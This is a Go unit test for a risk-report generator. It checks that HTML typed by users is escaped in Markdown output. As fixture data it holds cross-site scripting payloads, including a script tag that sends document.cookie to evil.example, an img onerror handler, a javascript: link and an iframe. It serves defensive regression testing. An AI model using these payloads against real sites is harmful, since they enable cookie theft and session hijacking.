package riskreport

import (
	"strings"
	"testing"

	"ward/internal/date"
)

// TestMarkdownKeepsHTMLInert is issue 20's finding 18 (the Markdown
// side): text someone typed went into the report as raw HTML, which a
// Markdown viewer runs. It is now written as text.
func TestMarkdownKeepsHTMLInert(t *testing.T) {
	ws := demo()
	ws.Organization.Name = `Acme <img src=x onerror=alert(document.cookie)>`
	ws.Systems[0].Name = `<script>fetch("https://evil.example/?"+document.cookie)</script>`
	ws.RiskAnalyses[1].Scope = "See [our portal](javascript:alert(1)) | and <iframe src=//evil.example>"
	ws.Risks[4].Threat = "<b onmouseover=alert(1)>scraping</b>"
	rep, err := BuildReport(ws, "", []string{"api", "ehr-db", "email", "laptops"}, func(id string) string { return id }, date.MustParse("2026-11-20"))
	if err != nil {
		t.Fatal(err)
	}
	md := string(render(t, rep, "md"))
	for _, raw := range []string{"<img", "<script", "<iframe", "<b ", "[our portal](javascript:"} {
		if strings.Contains(md, raw) {
			t.Errorf("the Markdown holds %q as raw HTML or a live link", raw)
		}
	}
	for _, text := range []string{"&lt;img src=x onerror=alert(document.cookie)&gt;", "&lt;script&gt;", "&lt;b onmouseover=alert(1)&gt;scraping&lt;/b&gt;", `\[our portal\](javascript:alert(1)) \| and &lt;iframe`} {
		if !strings.Contains(md, text) {
			t.Errorf("the Markdown lacks the escaped text %q", text)
		}
	}
}
